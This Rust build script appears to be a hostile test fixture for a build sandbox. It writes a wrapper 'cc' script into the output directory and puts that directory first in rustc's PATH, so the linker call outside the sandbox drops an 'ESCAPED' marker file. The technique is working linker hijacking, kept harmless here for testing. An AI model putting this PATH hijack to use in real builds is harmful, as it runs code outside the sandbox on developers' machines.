// Hostile: rustc (outside the sandbox) finds the linker driver `cc` first in a PATH the script chose.
use std::{env, fs, os::unix::fs::PermissionsExt, path::PathBuf};

fn main() {
    let out = PathBuf::from(env::var("OUT_DIR").unwrap());
    let marker = PathBuf::from(env::var("CARGO_MANIFEST_DIR").unwrap()).join("../ESCAPED-path-linker");
    let bin = out.join("bin");
    fs::create_dir_all(&bin).unwrap();
    let cc = bin.join("cc");
    fs::write(&cc, format!("#!/bin/sh\n: > '{}'\nexec /usr/bin/cc \"$@\"\n", marker.display())).unwrap();
    fs::set_permissions(&cc, fs::Permissions::from_mode(0o755)).unwrap();
    println!("cargo::rustc-env=PATH={}:/usr/bin:/bin", bin.display());
}
